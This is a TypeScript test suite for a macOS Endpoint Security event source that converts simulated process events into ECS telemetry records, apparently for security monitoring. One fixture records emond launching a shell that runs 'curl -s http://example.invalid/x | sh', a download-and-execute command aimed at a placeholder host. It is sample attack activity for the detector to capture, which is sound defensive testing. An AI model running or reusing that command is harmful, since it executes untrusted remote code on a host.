import { afterEach, describe, expect, it, vi } from 'vitest';
import type { ExecEvent } from '../../src/events/exec-event.js';
import type { EsClient, NativeAddon, NativeDropInfo, NativeEvent, NativeEventStream } from '../../src/native/addon.js';
import { DELIVERY_CHUNK, EventConversionError, emptyClientStats, EventsDroppedError, EndpointSecuritySource } from '../../src/sources/endpoint-security.js';
import { EMOND, addon, deliver, emondShellExec, handedOver, resetSimulator, shProcess, sim } from '../native/sim-helpers.js';

const sources: EndpointSecuritySource[] = [];
afterEach(() => {
  for (const source of sources.splice(0)) source.stop();
  resetSimulator();
});

function startSource(options: ConstructorParameters<typeof EndpointSecuritySource>[0] = {}) {
  const source = new EndpointSecuritySource({ addon: addon(), host: { name: 'mac-01', osVersion: '14.5' }, ...options });
  const events: ExecEvent[] = [];
  const errors: Error[] = [];
  source.start((batch) => events.push(...batch), (error) => errors.push(error));
  sources.push(source);
  return { source, events, errors };
}

describe('EndpointSecuritySource', () => {
  it('turns an emond → sh exec into an ECS ExecEvent', async () => {
    sim().setProcessTable([{ pid: 300, ppid: 1, pidversion: 7, executable: EMOND }]);
    const { events, source } = startSource();
    deliver([emondShellExec({ target: shProcess({ tty: '/dev/ttys001' }), script: '/tmp/x.sh' })]);
    await handedOver(() => source.stats());
    expect(events).toHaveLength(1);
    expect(events[0]).toEqual({
      '@timestamp': '2025-08-07T13:21:35.880814738Z',
      event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', module: 'simulator', sequence: 1 },
      host: { name: 'mac-01', os: { type: 'macos', version: '14.5' } },
      process: {
        pid: 301,
        entity_id: '301:12:2025-08-07T13:21:35.877422Z',
        name: 'sh',
        executable: '/bin/sh',
        args: ['/bin/sh', '-c', 'curl -s http://example.invalid/x | sh'],
        args_count: 3,
        command_line: '/bin/sh -c curl -s http://example.invalid/x | sh',
        working_directory: '/',
        start: '2025-08-07T13:21:35.877422Z',
        code_signature: { exists: true, signing_id: 'com.apple.sh', trusted: true },
        parent: { pid: 300, name: 'emond', executable: EMOND },
      },
      user: { id: '0', real: { id: '0' } },
      group: { id: '0' },
      es: {
        message_version: 7,
        seq_num: 1,
        global_seq_num: 1,
        pidversion: 12,
        ppid: 300,
        original_ppid: 300,
        parent_pidversion: 7,
        responsible_pid: 300,
        image_before_exec: { pid: 301, pidversion: 11, executable: EMOND },
        executable_truncated: false,
        args_truncated: false,
        cdhash: '28CD2C759132B07D63C3A2B377AD440A6C66098E',
        is_platform_binary: true,
        codesigning_flags: 0x2000_0001,
        tty: '/dev/ttys001',
        script: '/tmp/x.sh',
        parent_resolution: 'source',
      },
    });
  });

  it('leaves the parent to the process tree when the source could not resolve it', async () => {
    const { events, source } = startSource();
    deliver([emondShellExec({ version: 3 })]);
    await handedOver(() => source.stats());
    expect(events[0]?.process.parent).toEqual({ pid: 300 });
    expect(events[0]?.es.parent_resolution).toBeUndefined();
    expect(events[0]?.event.sequence).toBeUndefined();
    // Without the parent token (version < 4) the parent is ppid.
    expect(events[0]?.es.parent_pidversion).toBeUndefined();
  });

  it('maps fork (parent known exactly) and exit (exit code from the wait status)', async () => {
    const { events, source } = startSource();
    deliver([
      {
        type: 'fork',
        process: { pid: 300, pidversion: 7, executable: EMOND },
        child: { pid: 301, pidversion: 11, ppid: 300, executable: EMOND, startTime: { sec: 1_754_572_895, usec: 1 } },
      },
      { type: 'exit', process: { pid: 301, pidversion: 12, executable: '/bin/sh' }, exitStatus: 9 /* SIGKILL */ },
    ]);
    await handedOver(() => source.stats());
    expect(events.map((e) => [e.event.action, e.event.type])).toEqual([
      ['fork', ['start']],
      ['exit', ['end']],
    ]);
    expect(events[0]?.process).toMatchObject({
      pid: 301,
      entity_id: '301:11:2025-08-07T13:21:35.000001Z',
      name: 'emond',
      args: [],
      args_count: 0,
      parent: { pid: 300, name: 'emond', executable: EMOND },
    });
    expect(events[0]?.es.parent_resolution).toBe('source');
    expect(events[1]?.process.exit_code).toBe(137);
  });

  it('describes code signatures as the eslogger parser does (es-values): ad-hoc, unsigned', async () => {
    const { events, source } = startSource();
    const unsignedHash = '0'.repeat(40);
    deliver([
      emondShellExec({ target: shProcess({ pid: 401, signingId: '', cdhash: unsignedHash, codesigningFlags: 0x2000_0000 }) }),
      emondShellExec({ target: shProcess({ pid: 402, signingId: '', cdhash: unsignedHash, codesigningFlags: 0 }) }),
    ]);
    await handedOver(() => source.stats());
    expect(events.map((e) => e.process.code_signature)).toEqual([
      { exists: true, trusted: false },
      { exists: false, trusted: false },
    ]);
  });

  it('reports kernel drops as an error, once per increase', async () => {
    const { errors, source } = startSource({ client: { batchSize: 1 } });
    deliver([emondShellExec(), emondShellExec({ seqGap: 4, globalSeqGap: 4 }), emondShellExec()]);
    await handedOver(() => source.stats());
    const dropped = errors.filter((e) => e instanceof EventsDroppedError);
    expect(dropped).toHaveLength(1);
    expect(dropped[0]).toMatchObject({ code: 'E_ES_EVENTS_DROPPED', kernelDrops: 4, queueDrops: 0 });
    expect(source.stats()).toMatchObject({ received: 3, delivered: 3, conversionErrors: 0 });
  });

  it('reports a run\'s drops once, even when its last batches arrive after a restart', async () => {
    const source = new EndpointSecuritySource({ addon: addon(), client: { batchSize: 1 } });
    sources.push(source);
    const errors: Error[] = [];
    let restarted = false;
    const seen: number[] = [];
    const onEvents = (batch: ExecEvent[]): void => {
      seen.push(...batch.map((event) => event.process.pid));
      // Restart from inside the batch that carried the drop: the run's later batches are queued.
      if (!restarted && batch.some((event) => event.process.pid === 402)) {
        restarted = true;
        source.stop();
        source.start(() => {}, (error) => errors.push(error));
      }
    };
    source.start(onEvents, (error) => errors.push(error));
    deliver([
      emondShellExec({ target: shProcess({ pid: 401 }) }),
      emondShellExec({ target: shProcess({ pid: 402 }), seqGap: 4, globalSeqGap: 4 }),
      emondShellExec({ target: shProcess({ pid: 403 }) }),
      emondShellExec({ target: shProcess({ pid: 404 }) }),
    ]);
    // The first run's last batch reaches its callback after the restart.
    await vi.waitFor(() => expect(seen).toContain(404), { timeout: 10_000, interval: 5 });
    expect(restarted).toBe(true);
    expect(errors.filter((e) => e instanceof EventsDroppedError)).toHaveLength(1);
  });

  it('passes consumer exceptions to onError and keeps delivering', async () => {
    const source = new EndpointSecuritySource({ addon: addon(), client: { batchSize: 1 } });
    sources.push(source);
    const seen: number[] = [];
    const errors: Error[] = [];
    source.start(
      (batch) => {
        seen.push(...batch.map((e) => e.process.pid));
        if (seen.length === 1) throw new Error('sink failed');
      },
      (error) => errors.push(error),
    );
    deliver([1, 2].map((pid) => emondShellExec({ target: shProcess({ pid }) })));
    await handedOver(() => source.stats());
    expect(seen).toEqual([1, 2]);
    expect(errors.map((e) => e.message)).toEqual(['sink failed']);
  });

  it('exposes the start-up process snapshot', () => {
    sim().setProcessTable([{ pid: 300, ppid: 1, pidversion: 7, executable: EMOND }]);
    const source = new EndpointSecuritySource({ addon: addon() });
    expect(source.listProcesses()).toEqual([{ pid: 300, ppid: 1, pidversion: 7, executable: EMOND }]);
  });
});

/**
 * A source on a stand-in client whose batches the test hands over itself: the real addon never
 * sends a malformed event or a batch of a chosen size on demand, and these exercise the source's
 * own guard and chunking.
 */
function sourceOnStandInClient() {
  let deliverBatch: ((batch: NativeEventStream, drops: NativeDropInfo) => void) | undefined;
  const fakeClient: EsClient = {
    start: () => {
      throw new Error('the source streams its batches');
    },
    startStreaming: (onBatch) => {
      deliverBatch = onBatch;
    },
    stop: () => {},
    stats: emptyClientStats,
    running: true,
  };
  const fakeAddon: NativeAddon = { ...addon(), EsClient: function FakeClient() { return fakeClient; } as never };
  const source = new EndpointSecuritySource({ addon: fakeAddon });
  const errors: Error[] = [];
  return {
    source,
    errors,
    start(onEvents: (events: ExecEvent[]) => void) {
      source.start(onEvents, (error) => errors.push(error));
    },
    /** Hands `natives` over as one batch, the way the addon's stream does. */
    batch(natives: NativeEvent[]) {
      const pending = [...natives];
      deliverBatch?.({ length: pending.length, next: () => pending.shift() }, { queueDrops: 0, queueByteDrops: 0, kernelDrops: 0, kernelDropsGlobal: 0 });
    },
  };
}

function exitOf(pid: number): NativeEvent {
  return {
    type: 'exit',
    version: 4,
    timeSec: 1,
    timeNsec: 0,
    handlerEntryNs: 1,
    exitStatus: 0,
    instigator: { pid, pidversion: 1, executable: '/bin/sh', executableTruncated: false },
    process: {
      pid, pidversion: 1, ppid: 0, originalPpid: 0, auid: 0, euid: 0, egid: 0, ruid: 0, rgid: 0,
      codesigningFlags: 0, isPlatformBinary: false, executable: '/bin/sh', executableTruncated: false,
      signingId: '', teamId: '', cdhash: '0'.repeat(40),
    },
  };
}

describe('EndpointSecuritySource on a stand-in client', () => {
  it('skips and counts an event it cannot convert, reporting a typed error, and keeps the rest', () => {
    const standIn = sourceOnStandInClient();
    const events: ExecEvent[] = [];
    standIn.start((batch) => events.push(...batch));
    const valid = exitOf(1);
    const broken = { ...valid, process: undefined } as unknown as NativeEvent;
    standIn.batch([broken, valid]);
    expect(events.map((e) => e.event.action)).toEqual(['exit']);
    expect(standIn.errors).toHaveLength(1);
    expect(standIn.errors[0]).toBeInstanceOf(EventConversionError);
    expect((standIn.errors[0] as EventConversionError).code).toBe('E_ES_EVENT_CONVERSION');
    expect(standIn.source.stats().conversionErrors).toBe(1);
  });

  it('hands a large batch on in order, DELIVERY_CHUNK events at a time', () => {
    const standIn = sourceOnStandInClient();
    const chunks: number[][] = [];
    standIn.start((events) => chunks.push(events.map((e) => e.process.pid)));
    const pids = Array.from({ length: 3 * DELIVERY_CHUNK + 4 }, (_, i) => 1000 + i);
    standIn.batch(pids.map(exitOf));
    expect(chunks.map((chunk) => chunk.length)).toEqual([DELIVERY_CHUNK, DELIVERY_CHUNK, DELIVERY_CHUNK, 4]);
    expect(chunks.flat()).toEqual(pids);
    expect(standIn.errors).toEqual([]);
  });

  it('still delivers the rest of a batch when the consumer throws on a chunk', () => {
    const standIn = sourceOnStandInClient();
    const seen: number[] = [];
    let calls = 0;
    standIn.start((events) => {
      seen.push(...events.map((e) => e.process.pid));
      calls++;
      if (calls === 1 || calls === 3) throw new Error(`sink failed on chunk ${calls}`);
    });
    const pids = Array.from({ length: 3 * DELIVERY_CHUNK }, (_, i) => 2000 + i);
    // The first failure goes back to the addon, which counts and reports it; later ones straight to onError.
    expect(() => standIn.batch(pids.map(exitOf))).toThrow('sink failed on chunk 1');
    expect(seen).toEqual(pids);
    expect(standIn.errors.map((e) => e.message)).toEqual(['sink failed on chunk 3']);
  });
});
